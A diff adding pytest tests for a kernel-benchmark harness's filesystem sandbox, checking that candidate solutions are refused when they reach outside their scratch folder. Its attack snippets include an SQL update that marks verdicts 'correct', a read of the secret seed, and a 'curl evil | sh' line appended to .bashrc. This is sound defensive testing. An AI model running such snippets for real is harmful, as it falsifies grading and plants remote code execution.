@@ -1,0 +1,165 @@
+"""The candidate's filesystem sandbox: both mechanisms confine a process, and candidates that reach for the
+store, the caches, $HOME, /tmp, their own folder or another candidate's file, at import or in forward,
+are refused and rejected under a named rule, with everything outside byte-for-byte unchanged."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import secrets
+from pathlib import Path
+
+import pytest
+
+from cudasmith.harness import sandbox
+from cudasmith.harness.options import EvalOptions
+from cudasmith.harness.session import Judge
+from cudasmith.harness.verdict import Status
+from cudasmith.store import CacheKey, Run, RunStore
+
+from conftest import SOLUTIONS
+
+# An honest vector add (C on the CPU, NVRTC on the GPU) whose import or forward first runs @ATTACK@.
+HONEST = {"cpu": SOLUTIONS / "vector_add_cpu.py", "cuda": SOLUTIONS / "vector_add_cuda.py"}
+FORWARD = (
+    "class ModelNew(nn.Module):\n    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:\n"
+)
+ATTACKING = (
+    "def attack():\n    try:\n@ATTACK@\n    except Exception as exc:\n        print('refused:', exc)\n\n\n"
+    f"@AT_IMPORT@\n\n{FORWARD}@IN_FORWARD@\n"
+)
+
+
+def _indent(code: str) -> str:
+    return "\n".join("        " + line for line in code.strip().splitlines())
+
+
+@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
+def test_each_mechanism_confines_a_process_to_its_scratch(mechanism: str, tmp_path: Path) -> None:
+    """A forked child under either mechanism writes into its scratch folder and nowhere else, and cannot
+    read what is outside its read roots; set-up costs well under 50 ms."""
+    scratch, outside = tmp_path / "scratch", tmp_path / "outside"
+    scratch.mkdir()
+    outside.mkdir()
+    secret = outside / "secret"
+    secret.write_text("seed")
+    policy = sandbox.make_policy(scratch, Path(sandbox.__file__), (outside,))
+    read_end, write_end = os.pipe()
+    child = os.fork()
+    if child == 0:  # pragma: no cover - reports through the pipe
+        state = sandbox.confine(policy, (mechanism,))
+        results = [state]
+        for path, mode in ((scratch / "ok", "w"), (outside / "planted", "w"), (secret, "r")):
+            try:
+                with open(path, mode) as handle:
+                    results.append("read " + handle.read() if mode == "r" else "wrote")
+            except OSError as exc:
+                results.append(f"refused {exc.errno}")
+        os.write(write_end, "|".join(results).encode())
+        os._exit(0)
+    os.close(write_end)
+    with os.fdopen(read_end) as pipe:
+        state, inside, planted, read = pipe.read().split("|")
+    os.waitpid(child, 0)
+    if not sandbox.isolated(state):
+        pytest.skip(f"{mechanism} is not available here: {state}")
+    assert inside == "wrote"
+    assert planted.startswith("refused") and not (outside / "planted").exists()
+    assert read != "read seed", "the hidden folder's file was read"
+    name, cost_ms = sandbox.setup_cost(mechanism, policy)
+    assert sandbox.isolated(name) and cost_ms < 50.0
+
+
+def _tree(*roots: Path) -> dict[str, str]:
+    """Every file below the roots, by content hash (what must come out unchanged)."""
+    found = {}
+    for root in roots:
+        for path in [root] if root.is_file() else sorted(root.rglob("*")):
+            if path.is_file():
+                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return found
+
+
+@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
+def test_candidates_that_reach_outside_are_rejected_and_change_nothing(
+    mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each attack, at import and in forward, under each mechanism: refused by the OS inside the
+    candidate, rejected under `sandbox-write`/`sandbox-read` naming the path, and the store, caches and
+    folders left as they were."""
+    _judge_attacks("cpu", mechanism, tmp_path, monkeypatch)
+
+
+@pytest.mark.gpu
+@pytest.mark.parametrize("mechanism", sandbox.MECHANISMS)
+def test_on_the_gpu_the_same_candidates_give_the_same_verdicts(
+    mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The same attacks around an NVRTC kernel, judged on the GPU: each verdict names the mechanism."""
+    _judge_attacks("cuda", mechanism, tmp_path, monkeypatch)
+
+
+def _judge_attacks(device: str, mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    template = HONEST[device].read_text().replace(FORWARD, ATTACKING)
+    options = EvalOptions(device=device, seeds_per_config=1, timing=False)
+    state, _ = sandbox.setup_cost(mechanism, sandbox.make_policy(tmp_path, Path(sandbox.__file__), ()))
+    if not sandbox.isolated(state):
+        pytest.skip(state)
+    monkeypatch.setenv(sandbox.MECHANISMS_ENV, mechanism)
+    home, cache, folder = tmp_path / "home", tmp_path / "cache", tmp_path / "solutions"
+    for path in (home, cache / "cpu", folder):
+        path.mkdir(parents=True)
+    (home / ".bashrc").write_text("# the user's\n")
+    (cache / "cpu" / "kernel.so").write_bytes(b"\x7fELF library")
+    store_path = tmp_path / "runs" / "cudasmith.db"
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("CUDASMITH_CACHE", str(cache))
+    monkeypatch.setenv("CUDASMITH_STORE", str(store_path))
+    with RunStore(store_path) as store:
+        run = store.create_run(Run("bench", "t", "v", "cpu", "cpu", "h", secret_seed=1234))
+        candidate = store.add_candidate(run.id, "k", "file", source="x", code_hash="c")
+        store.record_verdict(
+            candidate.id, {"status": "incorrect"}, CacheKey("v", "cpu", "h", "o"), "c", run.id
+        )
+    other = folder / "other.py"
+    other.write_text("# another candidate's file\n")
+    planted_tmp = Path("/tmp") / f"cudasmith-test-planted-{secrets.token_hex(4)}"
+    attacks = {
+        "store": (
+            f"import sqlite3\nsqlite3.connect({str(store_path)!r}).execute(\"UPDATE verdicts SET status='correct'\")",
+            "sandbox-write",
+            store_path,
+        ),
+        "seed": (f"print(open({str(store_path)!r}, 'rb').read()[:100])", "sandbox-read", store_path),
+        "cache": (f"open({str(cache / 'cpu' / 'kernel.so')!r}, 'wb').write(b'x')", "sandbox-write", cache),
+        "home": (f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')", "sandbox-write", home),
+        "tmp": (f"open({str(planted_tmp)!r}, 'w').write('x')", "sandbox-write", planted_tmp),
+        "folder": (f"open({str(folder / 'planted.py')!r}, 'w').write('x')", "sandbox-write", folder),
+        "other": (f"open({str(other)!r}, 'w').write('import os')", "sandbox-write", other),
+    }
+    before = _tree(store_path.parent, cache / "cpu" / "kernel.so", home, folder)
+    solutions = {}
+    for name, (code, _, _) in attacks.items():
+        for when in ("import", "forward"):
+            source = (
+                template.replace("@ATTACK@", _indent(code))
+                .replace("@AT_IMPORT@", "attack()" if when == "import" else "")
+                .replace("@IN_FORWARD@", "        attack()" if when == "forward" else "")
+            )
+            solutions[(name, when)] = folder / f"{name}_{when}.py"
+            solutions[(name, when)].write_text(source)
+    before = {**before, **_tree(folder)}
+    try:
+        with Judge(task="level1/vector_add", options=options, candidates=len(solutions)) as judge:
+            verdicts = dict(zip(solutions, judge.judge_many(list(solutions.values())), strict=True))
+    finally:
+        planted = planted_tmp.exists()
+        planted_tmp.unlink(missing_ok=True)
+    for (name, when), verdict in verdicts.items():
+        _, rule, target = attacks[name]
+        assert verdict.status == Status.REJECTED, (name, when, verdict.reason)
+        assert f"{rule}: {os.path.realpath(target)}" in verdict.reason, (name, when, verdict.reason)
+        assert "refused:" in verdict.artifacts.get("stdout", ""), "the OS refused it inside the candidate"
+        assert verdict.isolation["filesystem"] == state
+    assert not planted
+    assert _tree(store_path.parent, cache / "cpu" / "kernel.so", home, folder) == before
